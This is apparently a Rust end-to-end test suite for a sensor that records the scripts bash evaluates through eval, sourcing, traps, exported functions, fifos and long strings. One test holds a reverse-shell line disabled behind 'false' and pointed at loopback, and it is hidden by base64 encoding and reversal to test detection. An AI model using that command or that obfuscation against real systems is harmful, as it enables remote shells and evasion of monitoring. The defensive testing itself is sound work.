//! What bash evaluates: strings after expansion and decoding, as scripts of their own.

use std::fs;

use e2e::{node::Node, outcome::sha256, shell};

/// Looks like an attack and does nothing: what it names is behind `false`, and only loopback is named.
const ATTACK: &str = "false && bash -i >& /dev/tcp/127.0.0.1/9 0>&1 # decoded";

fn base64(text: &str) -> String {
    use base64::{Engine, prelude::BASE64_STANDARD};
    BASE64_STANDARD.encode(text)
}

#[test]
fn a_decoded_payload_is_a_finding_of_its_own() {
    let node = Node::start(&[]).unwrap();
    // Written backwards, so that nothing but the shell itself can know what it will evaluate.
    let backwards: String = base64(ATTACK).chars().rev().collect();
    let outer = format!("x={backwards}\neval \"$(echo $x | rev | base64 -d)\"\n");
    let file = node.file("outer.sh", outer.as_bytes()).unwrap();
    let pid = shell::run("/bin/bash", &[file.to_str().unwrap()]).unwrap();
    let of =
        |f: &serde_json::Value| f["processes"][0]["script"]["sha256"] == sha256(ATTACK.as_bytes()).as_str();
    let findings = node.wait_for(|f| f.iter().any(of)).unwrap();
    let finding = findings.iter().find(|f| of(f)).unwrap().clone();
    assert_eq!(finding["processes"][0]["script"]["contents"], ATTACK);
    assert!(finding["processes"][0]["script"]["path"].is_null());
    assert_eq!(finding["processes"][0]["pid"], pid.to_string());
    let properties = &finding["sourceProperties"];
    assert_eq!(properties["Script_Origin"], "eval");
    assert_eq!(properties["Script_Evaluated_By"], "eval");
    assert_eq!(properties["Script_Parent"].as_str().unwrap().len(), 32);
    let outcome = node.finish().unwrap();
    let parent = outcome.captured_once(outer.as_bytes(), "file");
    let inner = outcome.captured_once(ATTACK.as_bytes(), "eval");
    assert_eq!(inner["parent"], parent["id"]);
}

#[test]
fn every_kind_of_evaluated_string_is_seen_once() {
    let node = Node::start(&[]).unwrap();
    let sourced = "# sourced\neval \"echo $((6*7)) nested\"\n";
    let sourced_file = node.file("sourced", sourced.as_bytes()).unwrap();
    let second = format!("# second\n. {}\n", sourced_file.display());
    let second_file = node.file("second", second.as_bytes()).unwrap();
    let fifo = node.path("fifo");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).unwrap();
    let text = format!(
        "trap \"echo leaving $((1+1))\" EXIT\n\
         for i in 1 2 3; do eval \"echo the same\"; done\n\
         f() {{ echo exported; }}; export -f f\n\
         bash -c 'f; # child'\n\
         . {}\n\
         echo 'echo through the fifo' > {fifo} &\n\
         source {fifo}\n\
         . <(echo 'echo through a pipe')\n\
         x=$(echo substituted; echo more)\n\
         (eval \"echo in a subshell $((2+3))\")\n",
        second_file.display(),
        fifo = fifo.display()
    );
    let file = node.file("main", text.as_bytes()).unwrap();
    let pid = shell::run("/bin/bash", &[file.to_str().unwrap()]).unwrap();
    let outcome = node.finish().unwrap();
    let main = outcome.captured_once(text.as_bytes(), "file")["id"].clone();
    for (content, by) in [
        ("echo leaving 2", "exit trap"),
        ("echo the same", "eval"),
        ("echo 42 nested", "eval"),
        ("echo in a subshell 5", "eval"),
    ] {
        let capture = outcome.captured_once(content.as_bytes(), "eval");
        assert_eq!(capture["evaluated_by"], by, "{content}");
        assert_eq!(capture["parent"], main, "{content}");
        assert_eq!(capture["id"]["pid"], pid, "{content}");
    }
    let function = outcome.captures.iter().find(|c| c["evaluated_by"] == "f").expect("the exported function");
    assert!(function["content"].as_str().unwrap().contains("echo exported"), "{function}");
    for content in [sourced, &second, "echo through the fifo\n", "echo through a pipe\n"] {
        outcome.captured_once(content.as_bytes(), "sourced");
    }
    outcome.captured_once(b"f; # child", "command");
    // What stands in the script already is not taken for another.
    assert!(
        !outcome
            .captures
            .iter()
            .any(|c| c["content"].as_str().is_some_and(|t| t.starts_with("echo substituted")))
    );
    assert_eq!(outcome.total("events_lost_total"), 0);
}

#[test]
fn long_strings_are_whole_up_to_the_limit() {
    let node = Node::start(&[]).unwrap();
    let text = "a=$(head -c 300000 /dev/zero | tr '\\0' x)\neval \": $a\"\n\
                b=$(head -c 1500000 /dev/zero | tr '\\0' y)\neval \": $b\"\n";
    let file = node.file("long", text.as_bytes()).unwrap();
    shell::run("/bin/bash", &[file.to_str().unwrap()]).unwrap();
    let outcome = node.finish().unwrap();
    outcome.captured_once(format!(": {}", "x".repeat(300_000)).as_bytes(), "eval");
    let kept = format!(": {}", "y".repeat(1024 * 1024 - 2));
    let cut = outcome.with_content(kept.as_bytes()).next().expect("the first MiB");
    assert_eq!(cut["flags"]["truncated"], true);
    let size = cut["size"].as_u64().unwrap() as usize;
    assert!(size > 1024 * 1024);
    // What is behind it is a part of its own, with the last bytes of what was before.
    let rest = "y".repeat(size - 1024 * 1024 + 4096);
    assert_eq!(outcome.with_content(rest.as_bytes()).count(), 1);
}

#[test]
fn a_shell_never_seen_before_is_probed_when_it_appears() {
    let node = Node::start(&[]).unwrap();
    for name in ["bash-copy", "renamed"] {
        let copy = node.path(name);
        fs::copy("/bin/bash", &copy).unwrap();
        let copy = copy.to_str().unwrap();
        // Whoever is first may be done before the probe is in; the shell's own `-c` text is seen either way.
        shell::run(copy, &["-c", &format!("/bin/sleep 0.2; eval \"echo $((40+2)) {name}\"")]).unwrap();
    }
    let outcome = node.finish().unwrap();
    for name in ["bash-copy", "renamed"] {
        outcome.captured_once(format!("echo 42 {name}").as_bytes(), "eval");
    }
}

#[test]
fn a_name_does_not_hide_a_script() {
    let node = Node::start(&[]).unwrap();
    let fifo = node.path("command substitution");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).unwrap();
    let text = format!(
        "cd {}\necho 'echo hidden by a name' > command\\ substitution &\n. 'command substitution'\n",
        node.dir.path().display()
    );
    let file = node.file("main", text.as_bytes()).unwrap();
    shell::run("/bin/bash", &[file.to_str().unwrap()]).unwrap();
    let outcome = node.finish().unwrap();
    assert_eq!(outcome.with_content(b"echo hidden by a name\n").count(), 1, "{}", outcome.listing());
}
